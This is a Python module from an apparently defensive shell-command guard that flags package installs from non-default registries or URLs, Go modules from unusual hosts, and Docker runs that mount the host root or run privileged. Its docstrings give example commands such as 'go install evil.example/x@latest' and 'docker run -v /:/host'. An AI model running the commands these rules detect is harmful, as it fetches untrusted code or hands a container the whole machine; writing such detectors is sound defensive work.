"""Package managers that install or run a package from an arbitrary URL."""

from itertools import pairwise
from urllib.parse import urlsplit

from toolcharter.guards.shell.floor.context import Call, Context

WHY = "installs code from the network"
_URLS = (
    "http://",
    "https://",
    "ftp://",
    "git://",
    "git+",
    "hg+",
    "svn+",
    "bzr+",
    "ssh://",
    "git@",
    "file+http",
    "github:",
    "gitlab:",
    "bitbucket:",
    "gist:",
)
_INDEX_OPTIONS = ("-i", "--index-url", "--extra-index-url", "-f", "--find-links", "--registry", "--source", "-s", "--index", "--default-index", "--trusted-host", "--clear-sources", "--git", "--repository", "-c", "--channel")  # fmt: skip
USUAL_HOSTS = frozenset(
    {"pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "rubygems.org"}
    | {"registry.yarnpkg.com", "index.crates.io", "static.crates.io", "conda.anaconda.org"}
    | {"download.pytorch.org", "proxy.golang.org", "deno.land", "jsr.io"}
    | {"repo.anaconda.com"}
)
"""The registries that the programs use by default; only over TLS."""
_THIS_MACHINE = frozenset({"localhost", "127.0.0.1", "::1"})
_FETCHING_WORDS = frozenset(
    {
        "install",
        "i",
        "add",
        "in",
        "download",
        "wheel",
        "exec",
        "x",
        "dlx",
        "create",
        "run",
        "eval",
        "sync",
        "get",
        "tool",
    }
    | {"-i", "-U", "-ivh", "-Uvh", "localinstall", "reinstall"}
    | {"ci", "isntall", "init", "require", "global", "update", "upgrade", "link", "serve", "test"}
)
_RUNNERS = frozenset({"npx", "bunx", "uvx", "pnpx", "easy_install", "pipx", "corepack"})
_GO_HOSTS = ("golang.org/", "google.golang.org/", "github.com/", "gopkg.in/", "go.uber.org/", "k8s.io/", "sigs.k8s.io/", "honnef.co/", "mvdan.cc/", "gitlab.com/", "bitbucket.org/", "gotest.tools/", "go.dev/", "cloud.google.com/", "gorm.io/", "entgo.io/", "helm.sh/", "goa.design/", "modernc.org/", "rsc.io/", "git.sr.ht/", "codeberg.org/", "buf.build/", "connectrpc.com/", "oras.land/", "cuelang.org/", "dario.cat/", "filippo.io/", "go.opentelemetry.io/", "gvisor.dev/", "nhooyr.io/", "tailscale.com/", "9fans.net/", "fyne.io/", "gioui.org/", "gocloud.dev/", "gonum.org/")  # fmt: skip


def check_url(call: Call, _context: Context) -> str | None:
    """`pip install git+https://...`, `npm i http://...`, `npx URL`, `gem install -s URL`, `deno run URL`."""
    texts = call.texts
    if call.name not in _RUNNERS and not _FETCHING_WORDS & {*texts}:
        return None
    for at, text in enumerate(texts):
        option, _equals, value = text.partition("=")
        before = texts[at - 1] if at else ""
        is_index = before in _INDEX_OPTIONS or option in _INDEX_OPTIONS
        if _is_foreign_url(value if option.startswith("-") else text) or (is_index and before == "--trusted-host"):
            return WHY
    return None


def _is_foreign_url(text: str) -> bool:
    _name, at, url = text.partition("@") if not text.startswith(_URLS) else ("", "", "")
    url = (url if at else text).strip().lower()
    return url.startswith(_URLS) and not _is_usual_registry(url)


def _is_usual_registry(url: str) -> bool:
    """Whether the host of a URL is exactly that of a usual registry."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if "\\" in url:
        # Some programs take the text before it for the host, others the text behind it.
        return False
    if parts.hostname in _THIS_MACHINE:
        return parts.scheme in {"http", "https"}
    return parts.scheme == "https" and parts.hostname in USUAL_HOSTS


def check_go_install(call: Call, _context: Context) -> str | None:
    """`go install evil.example/x@latest`: a module from an unusual host."""
    texts = call.texts
    if not {"install", "run", "get"} & {*texts[:1]}:
        return None
    remote = (text for text in texts[1:] if "@" in text and "." in text.partition("/")[0] and not text.startswith("."))
    return WHY if any(not text.startswith(_GO_HOSTS) for text in remote) else None


def check_pip_module(call: Call, context: Context) -> str | None:
    """`python -m pip install ...`."""
    for at, word in enumerate(call.command.words[:-1]):
        if word.text == "-m":
            named = call.command.words[at + 1].text
            return check_url(call.from_word(at + 1, "pip"), context) if named in {"pip", "pipx", "uv"} else None
    return None


def check_container_mounts(call: Call, _context: Context) -> str | None:
    """`docker run -v /:/host`: the image's programs get the whole machine."""
    texts = call.texts
    if "--privileged" in texts and ("--pid=host" in texts or ("--pid", "host") in pairwise(texts)):
        return "hands the whole machine to a container"
    for at, text in enumerate(texts):
        before = texts[at - 1] if at else ""
        mount = text if before in {"-v", "--volume"} else ""
        for option in ("--volume=", "-v"):
            mount = mount or (text[len(option) :].lstrip("=") if text.startswith(option) else "")
        if text.startswith("--mount=") or before == "--mount":
            mount = _parse_mount(text)
        if mount and _mounts_system(mount):
            return "hands the whole machine to a container"
    return None


def _parse_mount(text: str) -> str:
    parts: dict[str, str] = {}
    for one in text.removeprefix("--mount=").split(","):
        name, _equals, value = one.partition("=")
        parts[name] = value
    is_read_only = "readonly" in parts or "ro" in parts
    return f"{parts.get('source') or parts.get('src') or ''}:x{':ro' if is_read_only else ''}"


def _mounts_system(mount: str) -> bool:
    source, _colon, rest = mount.partition(":")
    if not source.startswith(("/", "~")) or rest.endswith((":ro", ",ro")):
        return False
    return source.strip("/.") == "" or source.rstrip("/") in {"/etc", "/boot", "/dev", "/root", "/usr", "/bin", "/lib"}
